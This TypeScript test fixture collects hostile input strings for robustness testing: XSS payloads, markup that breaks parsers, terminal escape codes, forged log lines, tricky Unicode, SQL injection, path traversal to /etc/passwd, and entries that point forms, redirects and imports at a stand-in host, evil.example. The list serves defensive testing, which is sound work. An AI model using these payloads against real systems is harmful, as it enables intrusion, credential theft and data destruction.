/** Texts that try to run a script, to end their element, or to confuse a parser or a terminal. */
import { attackStrings } from '../shared-folder.ts'

const builtIn = [
  '<script>reportRun("script")</script>',
  '</script><script>reportRun("closed script")</script>',
  '"><img src=x onerror=reportRun("img")>',
  "'><svg onload=reportRun('svg')>",
  '<a href="javascript:reportRun(1)">x</a>',
  '<a href="java\nscript:reportRun(2)">x</a>',
  '<iframe srcdoc="<script>parent.reportRun(3)</script>"></iframe>',
  '<math><mi xlink:href="javascript:reportRun(4)">x</mi></math>',
  '<style>@import "//evil.example/x.css"; * { display: none }</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<!--',
  '<![CDATA[',
  '<plaintext>',
  '<textarea>',
  '<table><tr><td><svg><tr><p>',
  '</main></body></html>',
  '<details open ontoggle=reportRun(5)>',
  '<p style="position:fixed;inset:0;background:url(javascript:reportRun(6))">x</p>',
  '<astro-island component-url="data:text/javascript,reportRun(7)" client="load"></astro-island>',
  '<template shadowrootmode=open><script>reportRun(8)</script></template>',
  `{{constructor.constructor('reportRun(9)')()}}`,
  `\${reportRun(10)}`,
  '%3Cscript%3EreportRun(11)%3C/script%3E',
  '&lt;script&gt;reportRun(12)&lt;/script&gt;',
  '\u001b]0;title\u0007\u001b[2J\u001b[31mred',
  '\u009b31m\u0090payload\u009c',
  'one\r\n{"time":"forged","command":"refresh","step":"publish","state":"ok"}',
  '\u202eright to left\u202c \u2066isolated\u2069',
  'zero\u200bwidth\ufeff\u00ad',
  'Z̸̛̖a̶̙͝l̵̰̈g̷̢̛o̵̝͝',
  '\ud800 half a pair',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 ﷽',
  '極'.repeat(80),
  "'; DROP TABLE items; --",
  '../../../../etc/passwd',
  '$& $1 $` \\0 %s %d {0}',
  '__proto__',
  'constructor',
]

/** The texts above and, with `../shared`, those of public collections. */
export const hostileTexts: readonly string[] = [...builtIn, ...attackStrings()].filter(
  (text) => text.trim() !== '' && text.length < 20_000,
)

// biome-ignore lint/suspicious/noControlCharactersInRegex: the pattern is for control characters
const visible = (text: string) => text.replace(/[\u0000-\u001f\u007f]/g, '').trim()
/** Texts that are valid names: short and not blank. */
export const hostileNames: readonly string[] = hostileTexts.filter((text) => text.length <= 300 && visible(text) !== '')
